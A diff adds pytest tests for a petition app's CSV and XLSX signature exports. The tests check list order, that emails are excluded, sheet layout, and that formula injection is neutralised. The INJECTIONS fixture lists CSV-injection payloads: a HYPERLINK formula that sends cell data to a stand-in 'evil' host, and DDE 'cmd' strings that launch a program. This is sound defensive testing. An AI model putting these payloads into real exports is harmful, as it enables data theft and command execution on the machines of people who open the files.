@@ -1,0 +1,111 @@
+"""csv and xlsx: one row per confirmed signature, in list order, never a formula, never an email."""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from petition.models import INDIVIDUAL, MOD_HELD, PENDING
+
+from .export_helpers import exported, sample_letter
+from .factories import make_letter, make_signature
+
+INJECTIONS = {
+    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")": "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+    "+33 1 23": "'+33 1 23",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1": "'=1+1",
+    "\r=1+1": "'=1+1",
+    "Line\nbreak": "Line break",
+    "<b>bold</b>": "<b>bold</b>",
+}
+HEADER = [
+    "id", "type", "name", "affiliation", "country", "country_name", "display", "listed_as",
+    "moderation", "source", "language", "signed_at", "confirmed_at",
+]
+
+
+def _csv(data: bytes) -> list[dict]:
+    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the accents right
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_csv_rows_in_list_order_without_email(app):
+    letter = sample_letter()
+    make_signature(letter, country="DE", name="Held Org", moderation=MOD_HELD)
+    make_signature(letter, country="DE", name="Pending Org", status=PENDING)
+    data = exported(letter, "csv")
+    rows = _csv(data)
+    assert list(rows[0].keys()) == HEADER
+    assert [(r["country_name"], r["name"]) for r in rows[:3]] == [
+        ("Allemagne", "BAG Russischsprachige Linke"), ("Allemagne", "Campagne #FREE120"),
+        ("Allemagne", "Held Org"),
+    ]
+    assert rows[2]["moderation"] == "held"
+    assert "Pending Org" not in data.decode("utf-8-sig")
+    assert [r["country"] for r in rows[3:6]] == ["EG", "ES", "europe"]
+    assert rows[4]["country_name"] == "Etat espagnol"
+    secret = next(r for r in rows if r["name"] == "Anne Secret")
+    assert (secret["display"], secret["listed_as"]) == ("anonymous", "")
+    sartre = next(r for r in rows if r["name"] == "Jean-Paul Sartre")
+    assert sartre["listed_as"] == "J.-P. S."
+    assert dt.datetime.fromisoformat(rows[0]["confirmed_at"].replace("Z", "+00:00")).tzinfo is not None
+    assert "@" not in data.decode("utf-8-sig")  # no address, not even a hash column
+    assert "email" not in ",".join(HEADER)
+
+
+def test_csv_neutralises_formulas(app):
+    letter = make_letter()
+    for name in INJECTIONS:
+        make_signature(letter, country="FR", name=name, signer_type=INDIVIDUAL, affiliation=name)
+    rows = _csv(exported(letter, "csv"))
+    assert sorted(r["name"] for r in rows) == sorted(INJECTIONS.values())
+    for row in rows:
+        assert row["affiliation"] == row["name"]
+        for column in ("name", "affiliation", "listed_as"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_xlsx_sheets(app):
+    letter = sample_letter()
+    workbook = load_workbook(io.BytesIO(exported(letter, "xlsx", layout="submission")))
+    assert workbook.sheetnames == ["Signatures", "Summary"]
+    sheet = workbook["Signatures"]
+    rows = list(sheet.iter_rows(values_only=True))
+    assert list(rows[0]) == HEADER
+    assert [row[2] for row in rows[1:4]] == [
+        "BAG Russischsprachige Linke", "Campagne #FREE120", "Égyptiens libres",
+    ]
+    assert isinstance(rows[1][0], int) and isinstance(rows[1][12], dt.datetime)
+    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"
+    summary = list(workbook["Summary"].iter_rows(values_only=True))
+    assert summary[1] == ("Organisations", "Allemagne", 2)
+    assert ("Signataires individuels", "France", 3) in summary
+    assert any(row[1] == "Total : 9 signataires" and row[2] == 9 for row in summary)
+
+
+def test_xlsx_neutralises_formulas_and_keeps_text(app):
+    letter = make_letter()
+    for name in INJECTIONS:
+        make_signature(letter, country="FR", name=name, signer_type=INDIVIDUAL, affiliation=name)
+    workbook = load_workbook(io.BytesIO(exported(letter, "xlsx")))
+    sheet = workbook["Signatures"]
+    names = []
+    for row in sheet.iter_rows(min_row=2):
+        for cell in (row[2], row[3], row[7]):
+            assert cell.data_type == "s"  # a string, never a formula
+            assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r"))
+        names.append(row[2].value)
+    assert sorted(names) == sorted(INJECTIONS.values())
+
+
+@pytest.mark.sqlite_only
+def test_xlsx_control_characters(app):
+    letter = make_letter()
+    make_signature(letter, country="FR", name="Bell\x07 and \x00null")
+    workbook = load_workbook(io.BytesIO(exported(letter, "xlsx")))
+    assert workbook["Signatures"]["C2"].value == "Bell\u2407 and \u2400null"
